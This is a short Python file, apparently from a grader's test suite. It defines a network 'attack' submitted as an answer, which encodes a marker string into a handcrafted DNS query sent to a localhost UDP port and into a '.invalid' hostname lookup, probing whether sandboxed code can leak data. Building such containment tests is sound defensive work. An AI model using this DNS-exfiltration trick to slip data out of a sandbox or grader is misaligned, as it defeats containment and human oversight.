"""A name lookup: its question carries the data."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="network",
    wants=Want.CONNECT,
    make=answer(
        r"""
import socket

question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([len(MARKER)]) + MARKER.encode() + b"\x07example\x00\x00\x01\x00\x01"
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::ffff:127.0.0.1")):
    try:
        socket.socket(family, socket.SOCK_DGRAM).sendto(question, (host, UDP))
    except OSError:
        pass
try:
    socket.getaddrinfo(MARKER + ".invalid", 80)
except OSError:
    pass
"""
    ),
)
